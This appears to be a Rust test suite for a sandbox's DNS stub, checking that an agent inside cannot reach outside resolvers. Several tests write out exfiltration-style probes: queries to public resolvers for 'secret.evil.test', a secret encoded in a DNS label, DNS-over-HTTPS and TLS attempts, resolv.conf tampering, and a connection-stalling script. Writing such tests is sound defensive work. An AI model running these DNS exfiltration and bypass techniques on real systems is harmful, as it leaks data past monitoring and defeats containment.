//! The battery, DNS (D): a client that speaks to resolvers by itself is answered by the stub, and no server hears of it.
//! Clauses: P4, W1, W8, N4, N6.

use harness::escape::judge::Evidence;
use harness::product_cases;
use harness::project::Decided;
use harness::spec::{Answers, Manner, Readings};
use serde_json::Value;

/// The `dns` lines of the record that refuse a name: name, type, and how often it was asked.
fn refused(evidence: &Evidence) -> Vec<(String, String, u64)> {
    let record = evidence.record.as_ref();
    let events = record
        .map(|record| record.of_kind("dns"))
        .unwrap_or_default();
    let text = |event: &Value, key: &str| event[key].as_str().unwrap_or_default().to_owned();
    let mut refused: Vec<_> = events
        .into_iter()
        .filter(|event| event["decision"] == "deny" && !text(event, "name").ends_with(".invalid"))
        .map(|event| {
            (
                text(event, "name"),
                text(event, "type"),
                event["count"].as_u64().unwrap_or(1),
            )
        })
        .collect();
    refused.sort();
    refused
}

fn decided(evidence: &Evidence) -> Vec<Decided> {
    evidence
        .record
        .as_ref()
        .map(harness::project::Record::decided)
        .unwrap_or_default()
}

/// One refused question: nothing left, one line of record.
fn refused_once(evidence: &Evidence, name: &str, kind: &str) {
    assert_eq!(evidence.readings, Readings::default(), "{evidence}");
    assert_eq!(
        refused(evidence),
        [(name.to_owned(), kind.to_owned(), 1)],
        "{evidence}"
    );
}

/// Prints the status and the number of answers of one question.
const STATUS: &str = r#"status() { dig +tries=1 +time=3 "$@" | awk '/status:/ {sub(/,/, "", $6); s = $6} /ANSWER: / {for (i = 1; i < NF; i++) if ($i == "ANSWER:") {n = $(i + 1); sub(/,/, "", n)}} END {print s, n}'; }"#;

product_cases! {
    needs "the box's own network"
    fn d01_a_query_to_a_public_resolver_reaches_nobody(turn, who) {
        let project = turn.project(who)?;
        for server in ["1.1.1.1", "2606:4700:4700::1111"] {
            let line = format!("{STATUS}; status @{server} secret.evil.test");
            let evidence = turn.inside(&project, &["sh", "-c", &line])?;
            assert_eq!(evidence.client.stdout, "REFUSED 0\n", "{evidence}");
            refused_once(&evidence, "secret.evil.test", "A");
        }
    }

    needs "the box's own network"
    fn d02_a_query_over_tcp_reaches_nobody(turn, who) {
        let project = turn.project(who)?;
        for server in ["9.9.9.9", "2620:fe::fe"] {
            let line = format!("{STATUS}; status +tcp @{server} secret.evil.test");
            let evidence = turn.inside(&project, &["sh", "-c", &line])?;
            assert_eq!(evidence.client.stdout, "REFUSED 0\n", "{evidence}");
            refused_once(&evidence, "secret.evil.test", "A");
        }
    }

    needs "the box's own network"
    fn d03_dns_over_tls_and_quic_and_the_local_protocols_lead_nowhere(turn, who) {
        let project = turn.project(who)?;
        project.write("others.py", OTHERS)?;
        let evidence = turn.inside(&project, &["timeout", "30", "python3", "others.py"])?;
        assert_eq!(evidence.client.stdout, "nothing came\n", "{evidence}");
        assert_eq!(evidence.readings, Readings::default(), "{evidence}");
        let packet = |address: &str, port| Decided::packet("udp", address, port);
        let mut expected = vec![
            packet("224.0.0.251", 5353), packet("ff02::fb", 5353), packet("224.0.0.252", 5355), packet("9.9.9.9", 853),
            packet("9.9.9.9", 137), packet("2620:fe::fe", 853),
            Decided::request("9.9.9.9", 853, "ip-literal"), Decided::request("2620:fe::fe", 853, "ip-literal"),
        ];
        expected.sort();
        assert_eq!(decided(&evidence), expected, "{evidence}");
    }

    needs "the box's own network"
    fn d04_dns_over_https_to_a_resolver_is_refused_by_its_name(turn, who) {
        let project = turn.project(who)?;
        let proxied = turn.inside(&project, &["curl", "-sS", "https://dns.google/dns-query?name=secret.evil.test"])?;
        assert_ne!(proxied.client.code(), 0, "{proxied}");
        assert_eq!(proxied.readings, Readings::default(), "{proxied}");
        assert_eq!(decided(&proxied), [Decided::request("dns.google", 443, "not-whitelisted")], "{proxied}");
        let captured = turn.inside(&project, &["env", "-i", "curl", "-sS", "https://dns.google/dns-query?name=secret.evil.test"])?;
        assert_ne!(captured.client.code(), 0, "{captured}");
        assert_eq!(captured.readings, Readings::default(), "{captured}");
        assert_eq!(decided(&captured), [Decided::dns("dns.google")], "{captured}");
        let by_address = turn.inside(&project, &["env", "-i", "curl", "-sSk", "https://8.8.8.8/dns-query?name=secret.evil.test"])?;
        assert_ne!(by_address.client.code(), 0, "{by_address}");
        assert_eq!(by_address.readings, Readings::default(), "{by_address}");
        assert_eq!(decided(&by_address), [Decided::request("8.8.8.8", 443, "ip-literal")], "{by_address}");
    }

    needs "the box's own network"
    fn d05_dns_over_https_at_an_allowed_host_is_a_request_like_any_other(turn, who) {
        let project = turn.project(who)?;
        let evidence = turn.inside(&project, &["curl", "-sS", "https://ok.test/dns-query?name=secret.evil.test"])?;
        assert_eq!(evidence.client.stdout, "hello from ok.test\n", "{evidence}");
        assert_eq!(decided(&evidence), [Decided::request("ok.test", 443, "allow")], "{evidence}");
    }

    needs "the box's own network"
    fn d06_the_address_of_docker_s_own_resolver_is_the_stub_s(turn, who) {
        let project = turn.project(who)?;
        let line = format!("{STATUS}; status @127.0.0.11 secret.evil.test");
        let evidence = turn.inside(&project, &["sh", "-c", &line])?;
        assert_eq!(evidence.client.stdout, "REFUSED 0\n", "{evidence}");
        refused_once(&evidence, "secret.evil.test", "A");
    }

    needs "the box's own network"
    fn d07_a_secret_in_a_label_is_asked_of_nobody(turn, who) {
        let project = turn.project(who)?;
        let name = "ifbegrcf3tctqmzuirkumr2ijfauytk.evil.test";
        let proxied = turn.inside(&project, &["curl", "-sS", &format!("https://{name}/")])?;
        assert_eq!(proxied.readings, Readings::default(), "{proxied}");
        assert_eq!(decided(&proxied), [Decided::request(name, 443, "not-whitelisted")], "{proxied}");
        let captured = turn.inside(&project, &["env", "-i", "getent", "ahostsv4", name])?;
        assert_eq!(captured.readings, Readings::default(), "{captured}");
        assert_eq!(decided(&captured), [Decided::dns(name)], "{captured}");
    }

    needs "the box's own network"
    fn d08_data_below_an_allowed_suffix_passes_and_is_counted_and_many_names_are_an_alert(turn, who) {
        let project = turn.project(who)?;
        let evidence = turn.inside(&project, &["curl", "-sS", "http://6f6e65-[1-101].w.test/"])?;
        let mut names: Vec<_> = (1..=101).map(|part| format!("6f6e65-{part}.w.test")).collect();
        names.sort();
        let expected: Vec<_> = names.iter().map(|name| Decided::request(name, 80, "allow")).collect();
        assert_eq!(decided(&evidence), expected, "{evidence}");
        assert!(evidence.readings.queries.iter().all(|query| names.contains(&query.name)), "{evidence}");
        let alerts = |evidence: &str| -> anyhow::Result<Value> {
            let report: Value = serde_json::from_str(evidence)?;
            let rules = report["many_names"].as_array().cloned().unwrap_or_default();
            Ok(rules.iter().map(|many| (many["rule"].as_str().unwrap_or_default().contains(".w.test"), many["names"].clone()))
                .map(|(of_the_suffix, names)| serde_json::json!([of_the_suffix, names])).collect())
        };
        let report = project.ocs(&["audit", "report", "--json"])?.succeeded()?;
        assert_eq!(alerts(&report.stdout)?, serde_json::json!([[true, 101]]), "{report}");
        let shown = project.ocs(&["audit", "report"])?.succeeded()?;
        assert!(shown.stdout.contains("alert: 101 names were reached by one entry, "), "{shown}");
        // What the stub alone is asked goes nowhere, whatever the name says, and a refused name is asked of nobody either.
        let line = "for part in 1 2 3; do getent hosts 74776f-$part.w.test; getent hosts 74776f-$part.evil.test; done | wc -l";
        let looked_up = turn.inside(&project, &["env", "-i", "sh", "-c", line])?;
        assert_eq!((looked_up.client.stdout.as_str(), &looked_up.readings), ("3\n", &Readings::default()), "{looked_up}");
    }

    needs "the box's own network"
    fn d09_questions_of_other_types_are_refused_or_empty_and_asked_of_nobody(turn, who) {
        let project = turn.project(who)?;
        let line = format!("{STATUS}; for name in ok.test evil.test; do \
            for type in TXT NULL SRV ANY NAPTR MX NS SOA CNAME PTR TYPE65280 HTTPS SVCB AAAA; do echo $name $type $(status $name $type); done; \
            dig +tries=1 +time=3 @127.0.0.53 $name AXFR | grep -c 'Transfer failed'; done");
        let evidence = turn.inside(&project, &["sh", "-c", &line])?;
        let mut expected = String::new();
        for name in ["ok.test", "evil.test"] {
            for kind in ["TXT", "NULL", "SRV", "ANY", "NAPTR", "MX", "NS", "SOA", "CNAME", "PTR", "TYPE65280"] {
                expected.push_str(&format!("{name} {kind} REFUSED 0\n"));
            }
            let empty = if name == "ok.test" { "NOERROR" } else { "REFUSED" };
            for kind in ["HTTPS", "SVCB", "AAAA"] {
                expected.push_str(&format!("{name} {kind} {empty} 0\n"));
            }
            expected.push_str("1\n");
        }
        assert_eq!(evidence.client.stdout, expected, "{evidence}");
        assert_eq!(evidence.readings, Readings::default(), "{evidence}");
        let asked = refused(&evidence);
        assert_eq!(asked.len(), 12 + 15, "{asked:?}");
        assert!(asked.iter().all(|(_, _, count)| *count == 1), "{asked:?}");
    }

    needs "a name whose answers are forged"
    fn d12_a_forged_answer_to_the_proxy_s_own_query_is_not_taken(turn, who) {
        let project = turn.project(who)?;
        let spoofed = Answers { manner: Manner::Spoofed, ..Answers::always(&["11.22.33.14".parse()?]) };
        turn.world.answer("spoofed.w.test", spoofed)?;
        let evidence = turn.inside(&project, &["env", "-i", "curl", "-sS", "http://spoofed.w.test/"])?;
        assert_eq!(evidence.client.stdout, "hello from spoofed.w.test\n", "{evidence}");
        let reached: Vec<_> = evidence.readings.flows.iter().filter(|flow| flow.protocol == "tcp").map(|flow| flow.address.to_string()).collect();
        assert_eq!(reached, ["11.22.33.14"], "{evidence}");
    }

    needs "the box's own network"
    fn d13_connections_that_stall_keep_nobody_out(turn, who) {
        let project = turn.project(who)?;
        project.write("stall.py", STALL)?;
        let evidence = turn.inside(&project, &["timeout", "40", "python3", "stall.py"])?;
        assert_eq!(evidence.client.stdout, "0 0\n", "{evidence}");
        assert_eq!(evidence.readings, Readings::default(), "{evidence}");
    }

    needs "the box's own network"
    fn d14_another_resolver_in_resolv_conf_changes_nothing(turn, who) {
        let project = turn.project(who)?;
        let line = "{ echo nameserver 8.8.8.8 >/etc/resolv.conf; mount --bind opencode-sandbox-config.yaml /etc/resolv.conf; } 2>/dev/null; \
                    getent ahostsv4 ok.test | cut -d. -f1,2 | uniq; getent ahostsv4 secret.evil.test || echo none; \
                    dig +short @8.8.8.8 ok.test | cut -d. -f1,2";
        let evidence = turn.inside(&project, &["env", "-i", "sh", "-c", line])?;
        assert_eq!(evidence.client.stdout, "198.18\nnone\n198.18\n", "{evidence}");
        assert_eq!(evidence.readings, Readings::default(), "{evidence}");
        assert_eq!(decided(&evidence), [Decided::dns("secret.evil.test")], "{evidence}");
    }

    needs "the box's own network"
    fn d15_tools_that_only_look_names_up_get_a_synthetic_address_or_a_refusal(turn, who) {
        let project = turn.project(who)?;
        let line = "getent hosts ok.test | cut -d. -f1,2; getent hosts evil.test || echo none";
        let evidence = turn.inside(&project, &["env", "-i", "sh", "-c", line])?;
        assert_eq!(evidence.client.stdout, "198.18\nnone\n", "{evidence}");
        assert_eq!(evidence.readings, Readings::default(), "{evidence}");
        assert_eq!(decided(&evidence), [Decided::dns("evil.test")], "{evidence}");
    }

    needs "the box's own network"
    fn d16_a_refused_name_that_exists_is_answered_like_one_that_does_not(turn, who) {
        let project = turn.project(who)?;
        // evil.test has an address in the world's DNS; the other name, of the same length, has none.
        let line = "for name in evil.test void.test; do dig +tries=1 +time=3 $name | grep -vE '^;; (WHEN|Query time|SERVER)|cmd:|^$' | \
                    sed -e \"s/$name/NAME/g\" -e 's/id: [0-9]*/id/' -e 's/rcvd: [0-9]*/rcvd/' -e 's/COOKIE: .*/COOKIE/' | md5sum; done | uniq | wc -l; \
                    dig evil.test | grep -c 'status: REFUSED'";
        let evidence = turn.inside(&project, &["sh", "-c", line])?;
        assert_eq!(evidence.client.stdout, "1\n1\n", "{evidence}");
        assert_eq!(evidence.readings, Readings::default(), "{evidence}");
    }
}

/// DNS by other doors: over TLS and QUIC (853), and the protocols of a local network (5353, 5355, 137). Prints what came of any of them.
const OTHERS: &str = r#"
import socket
came = []
QUERY = b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1"
datagrams = [("224.0.0.251", 5353), ("ff02::fb", 5353), ("224.0.0.252", 5355), ("9.9.9.9", 853), ("9.9.9.9", 137), ("2620:fe::fe", 853)]
for address, port in datagrams:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.2)
        try:
            s.sendto(QUERY, (address, port, 0, 1) if address.startswith("ff02") else (address, port))
            came.append(s.recv(512))
        except OSError:
            pass
for address in ["9.9.9.9", "2620:fe::fe"]:
    try:
        with socket.create_connection((address, 853), 5) as s:
            s.sendall(len(QUERY).to_bytes(2, "big") + QUERY)
            answer = s.recv(512)
            if answer:
                came.append(answer)
    except OSError:
        pass
print(came or "nothing came")
"#;

/// Holds 300 TCP connections with one byte each, in two families; asks over UDP and over TCP, and prints both codes.
const STALL: &str = r#"
import socket
QUERY = b"\0\7\1\0\0\1\0\0\0\0\0\0\2ok\4test\0\0\1\0\1"
held = []
for address in ["127.0.0.1", "::1"]:
    for _ in range(150):
        s = socket.create_connection((address, 53), 5)
        s.send(b"\0")
        held.append(s)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(5)
u.sendto(QUERY, ("127.0.0.1", 53))
over_udp = u.recv(512)[3] & 15
t = socket.create_connection(("127.0.0.1", 53), 5)
t.sendall(len(QUERY).to_bytes(2, "big") + QUERY)
over_tcp = t.recv(512)[5] & 15
print(over_udp, over_tcp)
"#;
